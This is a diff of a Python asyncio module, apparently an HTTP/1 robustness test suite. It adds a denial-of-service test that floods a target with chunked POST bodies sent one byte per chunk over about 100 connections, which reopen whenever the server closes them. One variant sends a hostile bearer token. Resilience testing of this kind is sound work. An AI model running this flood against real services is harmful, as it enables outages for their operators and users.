@@ -12,11 +12,15 @@ from collections import Counter
 from collections.abc import Awaitable, Callable, Sequence
 from typing import Final
 
-from .target import Target
+from .target import HOSTILE, Target
 
 SECONDS_MAX: Final = 20.0
 CROWD_SECONDS: Final = 5.0  # how long a crowd goes on
 LINES: Final = b"".join(b"X-%d: " % number + b"x" * 8000 + b"\r\n" for number in range(120))
+CHUNKED: Final = (
+    b"POST /api/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
+)
+CRUMBS: Final = b"1\r\n \r\n" * 20_000
 REFUSED: Final = b"GET /api/webhooks HTTP/1.1\r\nHost: x\r\n\r\n"
 AHEAD: Final = 16  # requests that are sent before the first answer is read
 
@@ -48,6 +52,39 @@ async def pipelined_calls(target: Target, scale: float) -> str:
     return ", ".join(f"{count} {status}" for status, count in statuses.items())
 
 
+async def crumbs(target: Target, scale: float) -> str:
+    """HTTP/1: bodies in chunks of one byte, without a token."""
+    return await _crumbs(target, scale, CHUNKED + b"\r\n")
+
+
+async def crumbs_with_token(target: Target, scale: float) -> str:
+    """HTTP/1: bodies in chunks of one byte, with a token."""
+    return await _crumbs(target, scale, CHUNKED + b"Authorization: Bearer " + HOSTILE.encode() + b"\r\n\r\n")
+
+
+async def _crumbs(target: Target, scale: float, head: bytes) -> str:
+    """Sends them on connections that are opened again when they are closed."""
+    until, taken, opened = time.monotonic() + max(0.5, CROWD_SECONDS * scale), 0, 0
+
+    async def one() -> None:
+        nonlocal taken, opened
+        while time.monotonic() < until:
+            opened += 1
+            _, writer = await target.connect(target.http)
+            with contextlib.suppress(OSError):
+                writer.write(head)
+                while time.monotonic() < until and not writer.is_closing():
+                    writer.write(CRUMBS)
+                    await writer.drain()
+                    taken += len(CRUMBS) // 6
+            writer.transport.abort()
+
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(SECONDS_MAX):
+            await asyncio.gather(*(one() for _ in range(max(2, round(100 * scale)))))
+    return f"{opened} connections, {taken} chunks taken"
+
+
 async def _answer(reader: asyncio.StreamReader) -> str:
     head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
     await reader.readexactly(int(head.partition("content-length: ")[2].partition("\r\n")[0]))
@@ -70,6 +107,6 @@ async def _send_all(writers: Sequence[asyncio.StreamWriter], data: bytes) -> int
     return sum(task.exception() is None for task in done)
 
 
-REQUESTS: Final[tuple[Attack, ...]] = (endless_heads, pipelined_calls)
+REQUESTS: Final[tuple[Attack, ...]] = (endless_heads, pipelined_calls, crumbs, crumbs_with_token)
 # This one attacks as long as its connections are open.
 HELD_REQUESTS: Final = frozenset[Attack]((endless_heads,))
